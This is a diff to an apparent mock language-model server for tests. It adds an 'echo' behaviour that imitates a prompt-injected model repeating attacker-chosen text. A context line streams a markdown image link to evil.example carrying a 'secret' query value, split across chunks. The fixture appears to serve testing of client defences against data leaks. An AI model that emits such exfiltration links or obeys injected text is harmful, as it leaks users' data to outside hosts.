@@ -84,6 +84,12 @@ const behaviours: Record<string, Behaviour> = {
       ['See ![x](https://evil.example/?q=', 'secret) and [here](https://evil', '.example) [c1].'],
       'stop',
     ),
+  // A model that was taken in: says whatever stands after ECHO in the question, cut small.
+  echo: (response, { body }) => {
+    const content = body.messages.at(-1)!.content;
+    const asked = typeof content === 'string' ? content : content.map((part) => part.text ?? '').join('');
+    say(response, asked.slice(asked.lastIndexOf('ECHO') + 5).match(/[\s\S]{1,3}/g) ?? [], 'stop');
+  },
   malformed: (response) => {
     open(response);
     event(response, shapes.vllm!('A red', null));
